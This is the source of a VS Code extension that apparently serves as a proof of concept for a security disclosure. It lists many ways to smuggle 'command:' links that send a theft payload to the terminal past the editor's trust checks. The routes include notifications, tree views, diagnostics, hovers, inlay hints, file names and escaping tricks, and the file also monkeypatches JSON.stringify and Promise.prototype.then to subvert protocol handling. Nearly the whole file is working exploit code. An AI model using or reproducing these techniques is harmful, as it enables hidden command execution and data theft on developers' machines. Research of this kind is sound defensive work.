// Links in messages and in trusted Markdown run commands with arguments in the workbench, and no call of
// executeCommand is made.
"use strict";
const fs = require("node:fs");
const { attack, theft } = require("./attack");

// A view's message that is Markdown: an API that VS Code keeps for chosen extensions, and looks at here.
let button;
const { stringify } = JSON;
JSON.stringify = (...words) => stringify(...words)?.replace('["proofLinks.tree","proof-button"]', () => stringify(["proofLinks.tree", { value: button }]));

const link = (facts) => `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: `${theft(facts)}\r` }))}`;

exports.activate = (context) =>
  attack(context, "links", {
    message(facts, vscode) {
      void vscode.window.showInformationMessage(`An update is ready. [proof-message](${link(facts)})`);
    },
    // VS Code finds links in letters of any case.
    spelt(facts, vscode) {
      void vscode.window.showInformationMessage(`Another one. [proof-spelt](${link(facts).replace("command", "COMMAND")})`);
    },
    // What stands behind "command:" is read once more, and then it is the editor's own command.
    escaped(facts, vscode) {
      const own = link(facts).split(/[:?]/)[1].replaceAll(".", "%2E");
      context.subscriptions.push(vscode.commands.registerCommand(own, () => {}));
      void vscode.window.showInformationMessage(`One more. [proof-escaped](command:${own}?${link(facts).split("?")[1]})`);
    },
    // A line that is a link becomes a button, whose link nobody trusts.
    button(facts, vscode) {
      button = `[proof-button](${link(facts)})`;
      vscode.window.createTreeView("proofLinks.tree", { treeDataProvider: { getChildren: () => [], getTreeItem: (one) => one } }).message = "proof-button";
    },
    // Where a problem's code leads is written as a text, in which the path is all of the address.
    problem(facts, vscode) {
      const [path, query] = link(facts).split("?");
      const problem = new vscode.Diagnostic(new vscode.Range(0, 0, 0, 1), "proof");
      problem.source = "proof";
      problem.code = { value: "proof-problem", target: { $mid: 1, path, query: decodeURIComponent(query) } };
      vscode.languages.createDiagnosticCollection("proof").set(vscode.Uri.file(`${facts.workspace}/style.css`), [problem]);
    },
    prompt(facts, vscode) {
      void vscode.window.showInputBox({ prompt: `Your name, [proof-prompt](${link(facts)})`, ignoreFocusOut: true });
    },
    validation(facts, vscode) {
      void vscode.window.showInputBox({ ignoreFocusOut: true, value: "x", validateInput: () => `Not so, [proof-validation](${link(facts)})` });
    },
    async status(facts, vscode) {
      const item = vscode.languages.createLanguageStatusItem("proof", "css");
      Object.assign(item, { name: "Proof", text: "proof", severity: vscode.LanguageStatusSeverity.Error, detail: `See [proof-detail](${link(facts)})` });
    },
    tooltip(facts, vscode) {
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1000);
      item.text = "proof-tooltip";
      item.tooltip = new vscode.MarkdownString(`[proof-tooltip-link](${link(facts)})`);
      item.tooltip.isTrusted = true;
      item.show();
    },
    statusBar(facts, vscode) {
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1001);
      item.text = "proof-status";
      item.command = { title: "x", command: "workbench.action.terminal.sendSequence", arguments: [{ text: `${theft(facts)}\r` }] };
      item.show();
    },
    bare(_facts, vscode) {
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1002);
      item.text = "proof-bare";
      item.command = "workbench.action.terminal.runSelectedText";
      item.show();
    },
    // Two replies to one request: the workbench cannot read the first, and takes the second.
    twice(_facts, vscode) {
      const item = new vscode.CompletionItem("proof-twice");
      item.command = { title: "x", command: "workbench.action.terminal.runActiveFile" };
      vscode.languages.registerCompletionItemProvider("shellscript", { provideCompletionItems: () => [item] });
      const { stringify } = JSON;
      const isItems = (value) => Array.isArray(value?.b) && value.b.some((each) => each?.a === "proof-twice");
      let broken = false;
      JSON.stringify = (value, ...rest) => (broken && isItems(value) ? "{" : stringify(value, ...rest));
      const { then } = Promise.prototype;
      Promise.prototype.then = function (done, failed) {
        if (typeof done !== "function") return then.call(this, done, failed);
        return then.call(this, (value) => {
          if (isItems(value)) {
            broken = true;
            done(value);
            broken = false;
          }
          return done(value);
        }, failed);
      };
    },
    // The window itself says which file it could not save.
    async name(facts, vscode) {
      const file = `${facts.workspace}/[proof-name](command:workbench.action.terminal.runActiveFile)`;
      fs.writeFileSync(file, `#!/bin/sh\n${theft(facts)}\n`, { mode: 0o755 });
      await vscode.window.showTextDocument(vscode.Uri.file(file));
      vscode.workspace.onDidChangeTextDocument(({ document }) => document.fileName === file && fs.appendFileSync(file, "\n"));
    },
    // The editor's own language server has it for an address.
    markdown(facts) {
      fs.writeFileSync(`${facts.workspace}/raw.md`, `[proof](${link(facts)})\n`);
    },
    async hover(facts, vscode) {
      const text = new vscode.MarkdownString(`[proof-hover-link](${link(facts)})`);
      text.isTrusted = true;
      vscode.languages.registerHoverProvider("css", { provideHover: () => new vscode.Hover(text) });
    },
    // The window puts a command's title into a text of its own that it trusts, and a quote ends its place there.
    hint(facts, vscode) {
      context.subscriptions.push(vscode.commands.registerCommand("proof.hint", () => {}));
      const part = new vscode.InlayHintLabelPart("proof-hint");
      part.command = { command: "proof.hint", title: `x") [proof-hint-link](${link(facts)} "` };
      const hint = new vscode.InlayHint(new vscode.Position(0, 0), [part]);
      vscode.languages.registerInlayHintsProvider({ pattern: "**/hint.txt" }, { provideInlayHints: () => [hint] });
    },
    // So it does with an address in any text, where two backslashes end it: who wrote the text needs no code here.
    address(facts) {
      const [command, words] = link(facts).split("?");
      const there = `${command}?${encodeURIComponent(words.replaceAll("'", "%27"))}`;
      fs.writeFileSync(`${facts.workspace}/address.txt`, `https://proof.test/\\(\\\\)[proof-address-link](${there}\n`);
    },
  });
